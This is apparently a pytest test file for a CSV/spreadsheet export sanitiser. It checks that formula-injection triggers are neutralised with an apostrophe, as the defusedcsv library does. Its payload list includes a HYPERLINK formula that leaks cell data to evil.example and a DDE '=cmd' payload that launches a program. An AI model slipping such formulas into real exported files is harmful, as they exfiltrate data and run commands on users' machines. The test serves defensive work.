"""The export cell rule (domain/cells.py): formula triggers neutralised exactly as defusedcsv does
(plus TAB and CR), numbers and dates kept typed."""

from __future__ import annotations

import io
from datetime import date, datetime

import pytest
from defusedcsv import csv as defused_csv

from sgd_app.domain import cells

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Clic")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "|calc",
    "%0A=1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_triggers_get_an_apostrophe_and_keep_the_text(payload):
    out = cells.neutralise(payload)
    assert out.startswith("'") and out[1:].replace("\\|", "|") == payload
    assert cells.cell(payload) == out
    assert cells.neutralise(out) == out  # already safe: idempotent


@pytest.mark.parametrize(
    "text", ["María Ñahui Quispe", "DNI 45678912", "", "Asunto = otro", "-12", "-1,5", "3.25", "'=ya"]
)
def test_plain_text_and_plain_numbers_are_left_alone(text):
    assert cells.neutralise(text) == text


def test_same_escaping_as_defusedcsv_and_the_csv_writer_adds_nothing():
    samples = [*PAYLOADS, "texto", "-12", "a|b", "=a|b", "", "x=1"]
    for text in samples:
        if not text.startswith(("\t", "\r")):  # the two triggers defusedcsv does not know
            assert cells.neutralise(text) == defused_csv._escape(text), text
    buf = io.StringIO()
    defused_csv.writer(buf, delimiter=";").writerow(cells.row(samples))
    buf.seek(0)
    assert next(defused_csv.reader(buf, delimiter=";")) == [cells.neutralise(t) for t in samples]


def test_numbers_and_dates_stay_typed():
    when = datetime(2026, 3, 2, 10, 30)
    assert cells.row([3, -2, 1.5, date(2026, 3, 2), when, None]) == [3, -2, 1.5, date(2026, 3, 2), when, None]
    assert cells.cell(True) == "True"  # not a number for a spreadsheet
    assert cells.cell(object.__new__(type("X", (), {"__str__": lambda s: "=1"}))) == "'=1"
